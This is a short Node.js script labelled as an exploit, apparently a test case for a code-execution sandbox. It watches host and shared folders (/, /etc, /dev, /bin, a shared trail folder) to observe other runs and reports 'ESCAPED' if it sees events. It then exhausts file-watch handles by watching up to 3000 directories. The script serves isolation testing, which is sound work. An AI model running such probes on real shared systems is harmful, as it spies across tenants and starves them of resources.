// exploit: watches the folders that it shares with the host and with other runs, to learn what they do, and takes every watch that there is
// outcome: finished
// says: watched
// beside: neighbour
const fs = require('node:fs')
const told = []
for (const folder of ['/', '/etc', '/dev', '/bin', '/node_modules', '/crumbtrail']) fs.watch(folder, (kind, name) => told.push(`${folder} ${kind} ${name}`)).on('error', () => {})
let taken = 0
for (let index = 0; index < 3000; index += 1) {
  try {
    fs.mkdirSync(`/tmp/${index}`)
    fs.watch(`/tmp/${index}`, () => {}).on('error', () => {})
    taken += 1
  } catch {
    break
  }
}
setTimeout(() => {
  if (told.length > 0) console.log('ESCAPED', told.slice(0, 3))
  console.log(taken > 10 ? 'watched' : 'nothing to watch')
  process.exit(0)
}, 300)
